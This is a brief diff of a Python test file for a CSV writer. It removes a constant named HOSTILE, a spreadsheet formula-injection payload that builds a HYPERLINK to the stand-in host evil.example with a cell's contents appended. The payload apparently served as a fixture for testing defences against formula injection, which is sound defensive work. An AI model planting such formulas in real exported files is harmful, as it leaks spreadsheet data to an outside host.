@@ -9,8 +9,6 @@ import pytest
 
 from connection.spreadsheets import csv_writer
 
-HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
-
 
 def written(row) -> list[str]:
     buffer = io.StringIO()
